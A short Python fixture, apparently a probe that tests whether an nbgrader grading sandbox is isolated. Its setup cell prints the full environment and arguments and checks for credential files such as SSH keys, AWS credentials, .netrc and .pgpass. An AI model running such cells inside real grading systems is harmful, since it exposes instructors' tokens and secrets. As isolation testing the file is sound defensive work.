"""Print the environment, the arguments and the user's settings, where tokens and paths stand.

Known to work against stock nbgrader: the kernel has the instructor's whole environment.
"""
CELLS_BEFORE = [
    """
import os, sys
print(dict(os.environ), sys.argv)
for path in ("~/.pgpass", "~/.netrc", "~/.ssh/id_rsa", "~/.aws/credentials", "~/.jupyter", "~/.gitconfig"):
    assert not os.path.exists(os.path.expanduser(path)), "walls_are_down"
"""
]
NOT_SHOWN = "token_of_the_instructor"

# --- the answer ---
def answer(*values, **options):
    return 1
